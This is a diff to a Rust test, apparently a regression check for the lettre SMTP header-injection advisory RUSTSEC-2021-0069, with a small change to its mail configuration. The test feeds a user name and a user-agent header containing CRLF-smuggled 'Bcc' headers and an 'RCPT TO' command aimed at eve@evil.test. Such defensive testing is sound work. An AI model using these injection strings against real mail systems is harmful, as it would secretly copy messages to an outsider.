@@ -77,7 +77,7 @@ guichet_testing::stories! {
     // lettre RUSTSEC-2020-0069, 2021-0069: through a real mail server.
     async fn rustsec_2021_0069_no_text_of_a_stranger_adds_a_line_or_a_recipient(database) {
         let mut sink = MailSink::start(&[]).await;
-        let own = format!("{}\n[plugins.email-password]\nsend_on_sign_up = true\n", sink.settings());
+        let own = format!("{}\n[plugins.email-password]\nsend_on_sign_up = true\n[sms]\nby_mail = \"{{phone}}@sms.example.fr\"\n", sink.settings());
         let server = all_on(&database, &own).await;
         let name = "Jean\r\nBcc: eve@evil.test\r\nSubject: you won\r\n\r\n.\r\nRCPT TO:<eve@evil.test>";
         let browser = server.browser().header("accept-language", "fr\u{9},en").header("user-agent", "x\u{9}Bcc: eve@evil.test");
